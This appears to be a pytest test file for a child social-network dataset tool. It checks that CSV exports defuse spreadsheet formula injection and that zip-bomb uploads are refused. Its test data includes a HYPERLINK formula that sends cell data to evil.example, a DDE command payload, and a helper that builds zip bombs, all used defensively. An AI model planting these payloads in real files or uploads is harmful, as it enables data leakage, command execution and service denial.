"""The data-set CSV files the product writes: formula-safe, round-tripping; zips checked first."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io as bytes_io
import os
import subprocess
import sys
import zipfile

import pytest

from eska_network.cli import main
from eska_network.domain import csvsafe, io, synth
from eska_network.domain.model import Child, Dataset, Member, Resource, Tie
from eska_network.services import dataset_transfer

from .access_fixtures import empty_store
from .conftest import REPO_ROOT, STORE_ENGINES

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "'=quoted by the user",
    "it's fine",
)


@pytest.fixture
def hostile_dataset() -> Dataset:
    """Labels, names and an extra column that a spreadsheet would run, and a child id '-C1'."""
    members = [
        Member(child, f"m{number}", label, "community")
        for child in ("-C1", "C2")
        for number, label in enumerate(HOSTILE)
    ]
    dataset = Dataset.from_objects(
        children=[
            Child("-C1", "=Kota", 12, caseworker="cw_ani"),
            Child("C2", "Kota Bandung", 9, caseworker="cw_ani"),
        ],
        members=members,
        ties=[Tie("-C1", "child", "m0", 3, "supportive", dt.date(2026, 1, 5))],
        resources=[Resource("R1", "=Kota", "@LBH", "institution", ("legal",), "-ngo")],
    )
    return dataclasses.replace(
        dataset, children=dataset.children.assign(**{"@notes": ["=1+1", "plain"]})
    )


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(bytes_io.StringIO(text)) for cell in row]


def test_no_written_cell_starts_like_a_formula_and_the_round_trip_holds(hostile_dataset, tmp_path):
    folder = io.write_dataset(hostile_dataset, tmp_path / "out")
    for name in ("children.csv", "members.csv", "ties.csv", "resources.csv"):
        cells = _cells((folder / name).read_text(encoding="utf-8"))
        assert not [cell for cell in cells if cell.startswith(csvsafe.FORMULA_STARTS)], name
    written = {name: (folder / name).read_bytes() for name in os.listdir(folder)}
    assert "'=HYPERLINK" in written["members.csv"].decode()
    back = io.read_dataset(folder)
    assert sorted(back.members["label"].unique()) == sorted(HOSTILE)
    assert back.children["child_id"].tolist() == ["-C1", "C2"]
    assert back.children["@notes"].tolist() == ["=1+1", "plain"]
    again = io.write_dataset(back, tmp_path / "again")
    assert {name: (again / name).read_bytes() for name in os.listdir(again)} == written
    zipped = zipfile.ZipFile(bytes_io.BytesIO(io.write_dataset_zip(back)))
    assert {name: zipped.read(name) for name in zipped.namelist()} == written


@pytest.mark.parametrize("engine", STORE_ENGINES)
def test_export_import_export_through_the_store_gives_the_same_files(
    engine, hostile_dataset, tmp_path
):
    with empty_store(engine, tmp_path) as store:
        store.import_dataset(hostile_dataset)
        url = store.url.render_as_string(hide_password=False)
        assert main(["export", str(tmp_path / "first"), "--database-url", url]) == 0
        first = {n: (tmp_path / "first" / n).read_bytes() for n in os.listdir(tmp_path / "first")}
        store.import_dataset(io.read_dataset(tmp_path / "first"))
        assert main(["export", str(tmp_path / "second"), "--database-url", url]) == 0
        second = {
            n: (tmp_path / "second" / n).read_bytes() for n in os.listdir(tmp_path / "second")
        }
        assert first == second
        assert b"'=HYPERLINK" in first["members.csv"]


def _zip(files: dict[str, bytes], path) -> None:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)


def test_validate_and_import_take_a_folder_or_a_zip(tmp_path, capsys):
    sample = REPO_ROOT / "sample_data"
    _zip({name: (sample / name).read_bytes() for name in os.listdir(sample)}, tmp_path / "s.zip")
    assert main(["validate", str(sample)]) == 0
    from_folder = capsys.readouterr().out
    assert main(["validate", str(tmp_path / "s.zip")]) == 0
    assert capsys.readouterr().out == from_folder


def _bomb(path, megabytes: int) -> None:
    """A zip of one ties.csv of ``megabytes`` of repeated rows (packs about 350 times)."""
    row = b"C1,child,m,3,supportive,2026-01-01\n"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        with archive.open("ties.csv", "w", force_zip64=True) as entry:
            entry.write(b"child_id,source,target,strength,valence,assessed_on\n")
            block = row * (2**20 // len(row))
            for _ in range(megabytes):
                entry.write(block)


def _exit_status(argv: list[str]) -> int:
    try:
        return main(argv)
    except SystemExit as stop:
        return stop.code


def test_a_zip_over_the_limit_is_refused_naming_its_size(tmp_path, monkeypatch, capsys):
    synth.write_synthetic(tmp_path / "data", children=1000, districts=5, seed=1)
    folder = tmp_path / "data"
    _zip({name: (folder / name).read_bytes() for name in os.listdir(folder)}, tmp_path / "s.zip")
    monkeypatch.setenv("ESKA_MAX_UNPACKED_MB", "1")
    size_mb = sum(i.file_size for i in zipfile.ZipFile(tmp_path / "s.zip").infolist()) / 2**20
    assert size_mb > 1
    assert _exit_status(["validate", str(tmp_path / "s.zip")]) == 1
    error = capsys.readouterr().err
    assert f"unpacks to {size_mb:,.0f} MB, more than the limit of 1 MB" in error


def test_a_zip_that_packs_implausibly_well_is_refused_before_unpacking(tmp_path, capsys):
    _bomb(tmp_path / "b.zip", 20)
    assert _exit_status(["validate", str(tmp_path / "b.zip")]) == 1
    assert "looks like a zip bomb; nothing was unpacked" in capsys.readouterr().err
    with pytest.raises(io.DatasetError, match="zip bomb"):
        dataset_transfer.read_upload({"upload.zip": (tmp_path / "b.zip").read_bytes()}, 2**25)


MEASURED = (
    "import os, subprocess, sys\n"
    "process = subprocess.Popen(sys.argv[1:])\n"
    "_, status, usage = os.wait4(process.pid, 0)\n"
    "print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)\n"
)
"""Runs a command and prints its exit status and peak memory (KiB on Linux). A process started
straight from the test would report the test process's own peak as well: Linux carries the
parent's high-water mark over fork and exec. Started from this small launcher, it does not."""


def test_a_zip_bomb_is_refused_in_little_memory(tmp_path):
    """The issue's bomb: a few MB unpacking to 1.5 GB, refused by the command in < 400 MB RSS."""
    _bomb(tmp_path / "bomb.zip", 1500)
    command = [sys.executable, "-m", "eska_network", "validate", str(tmp_path / "bomb.zip")]
    with open(tmp_path / "err", "wb") as errors:
        measured = subprocess.run(
            [sys.executable, "-c", MEASURED, *command],
            cwd=REPO_ROOT,
            stdout=subprocess.PIPE,
            stderr=errors,
            check=True,
        )
    returncode, peak_kib = (int(value) for value in measured.stdout.split())
    assert returncode == 1
    error = (tmp_path / "err").read_text()
    assert "unpacks to 1,500 MB, more than the limit of 200 MB" in error
    assert peak_kib < 400 * 1024, f"{peak_kib // 1024} MB"
